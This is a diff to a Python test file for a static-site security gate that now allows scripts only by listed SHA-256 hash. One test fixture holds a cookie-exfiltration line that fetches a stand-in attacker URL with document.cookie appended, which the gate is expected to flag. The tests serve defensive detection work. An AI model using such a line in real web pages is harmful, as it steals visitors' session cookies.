@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import bz2
 import gzip
+import hashlib
 import io
 import lzma
 import tarfile
@@ -20,6 +21,7 @@ from generator.gate.identifiers import find_identifiers
 from generator.gate.images import UnreadableImage, image_text
 from generator.gate.layers import Limits
 from generator.gate.markup import check_markup
+from generator.gate.scripts import OUR_THEME, SCRIPT_SUFFIXES, listed
 from generator.gate.sitefiles import SiteFiles
 from generator.gate.withheld_values import check_withheld_values
 from tests.pdf_corpus import PLAIN, rewritten
@@ -111,13 +113,39 @@ def test_theme_files_are_skipped_only_when_byte_identical(tmp_path):
     files = site(
         tmp_path, {"assets/a.js": "x()", "assets/b.js": "evil()"}, theme={"assets/a.js": b"x()", "assets/b.js": b"y()"}
     )
-    assert findings(files) == ["assets/b.js: file: [active-content] a script the theme does not ship"]
+    assert findings(files) == ["assets/b.js: file: [active-content] a script that is not one of those allowed by hash"]
+
+
+def test_our_scripts_are_allowed_by_their_listed_hash_wherever_they_are_and_never_by_name(tmp_path):
+    ours = (OUR_THEME / "assets/javascripts/reading-room-tables.js").read_bytes()
+    files = site(
+        tmp_path,
+        {
+            "assets/javascripts/reading-room-tables.js": ours,
+            "elsewhere/copy.js": ours,  # the same bytes: the same code
+            "assets/javascripts/reading-room-explore.js": b"fetch('https://evil.example/?' + document.cookie)",
+        },
+    )
+    assert findings(files) == [
+        "assets/javascripts/reading-room-explore.js: file: [active-content] a script that is not one of those allowed "
+        "by hash"
+    ]
+
+
+def test_every_script_of_ours_is_listed_with_its_hash_and_nothing_else_is():
+    """A script of ours that changes needs its line in generator/data/scripts.sha256 changed in the same commit."""
+    on_disk = {
+        path.relative_to(OUR_THEME).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
+        for path in sorted(OUR_THEME.rglob("*"))
+        if path.suffix in SCRIPT_SUFFIXES
+    }
+    assert listed() == on_disk
 
 
 @pytest.mark.parametrize("name", ["extra.js", "module.mjs", "sub/dir/x.js"])
 def test_a_stray_script_is_a_finding(tmp_path, name):
     assert findings(site(tmp_path, {name: "console.log(1)"})) == [
-        f"{name}: file: [active-content] a script the theme does not ship"
+        f"{name}: file: [active-content] a script that is not one of those allowed by hash"
     ]
 
 
